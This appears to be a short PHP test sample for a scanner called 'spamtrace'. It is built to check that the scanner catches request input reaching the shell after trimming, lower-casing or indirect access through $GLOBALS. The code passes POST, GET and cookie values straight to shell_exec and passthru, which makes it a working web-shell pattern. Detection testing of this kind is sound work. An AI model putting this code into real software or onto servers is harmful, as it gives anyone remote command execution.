<?php
// spamtrace test sample (written for the tests, never run): request input that is only
// trimmed, lower-cased or read through $GLOBALS by name still reaches the shell
$c = strtolower(trim($_POST['c']));
$row = array('cmd' => $c);
echo shell_exec($row['cmd']);
foreach (array('_GET', '_COOKIE') as $g) {
    $v = $GLOBALS[$g];
    if (!empty($v['z'])) {
        passthru($v['z']);
    }
}
